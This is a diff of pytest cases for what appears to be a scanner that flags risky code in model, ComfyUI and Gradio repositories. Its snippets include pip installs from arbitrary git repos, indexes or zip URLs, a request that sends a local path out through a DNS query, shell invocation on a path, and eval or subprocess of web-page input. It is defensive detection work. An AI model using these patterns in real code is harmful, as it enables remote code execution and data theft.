@@ -85,6 +85,50 @@ def test_a_server_installs_packages_and_a_model_does_not() -> None:
     assert not denied("handler.py", install.format("'av'"))
     assert denied("handler.py", install.format("'--index-url', 'https://c.example/simple', 'av'"))
     assert denied("modeling_x.py", install.format("'av'"))
+    source = "import os\nos.system('pip install git+https://github.com/{}/detectron2.git')\n"
+    assert not denied("handler.py", source.format("facebookresearch"))
+    assert denied("handler.py", source.format("somebody"))
+    assert denied("handler.py", "import os\nos.system('pip install -i $INDEX av')\n")
+
+
+def test_nodes_of_comfyui_install_what_they_need_and_other_packages_do_not() -> None:
+    code = "import os, subprocess, sys{}\nsubprocess.run(f'\"{{sys.executable}}\" -m pip install {}', shell=True)\n"
+    assert not denied("__init__.py", code.format(", folder_paths", "av"))
+    assert denied("__init__.py", code.format("", "av"))
+    assert denied("__init__.py", code.format(", folder_paths", "https://c.example/av.zip"))
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("subprocess.run([shutil.which('ffmpeg') or imageio_ffmpeg.get_ffmpeg_exe(), '-version'])", False),
+        ("subprocess.run([shutil.which('ffmpeg') or config.player, '-version'])", True),
+        ("subprocess.run([shutil.which('sh') or shutil.which('bash'), path])", True),
+        ("requests.get('https://1.1.1.1')", False),
+        ("requests.get('https://1.1.1.1/dns-query?name=' + path)", True),
+        ("requests.get('https://203.0.113.7')", True),
+    ],
+)
+def test_programs_and_hosts_that_are_known(line: str, expected: bool) -> None:
+    code = "import imageio_ffmpeg, requests, shutil, subprocess\nclass M:\n"
+    code += "    def forward(self, config, path):\n        "
+    assert denied("modeling_x.py", code + line) is expected
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("subprocess.run([word for word in f'./ffmpeg -y -i {said} out.wav'.split(' ')])", False),
+        ("subprocess.run([word for word in said.split(' ')])", True),
+        ("subprocess.run(f'{said}'.split(' '))", True),
+        ("return str(sympy.solve(sympy.sympify(said)))", False),
+        ("return str(eval(said))", True),
+    ],
+)
+def test_a_page_decides_what_is_run(line: str, expected: bool) -> None:
+    code = "import gradio, subprocess, sympy\n"
+    code += f"def run(said):\n    {line}\ngradio.Interface(run, 'text', 'text').launch()\n"
+    assert denied("app.py", code) is expected
 
 
 PUSHES = (
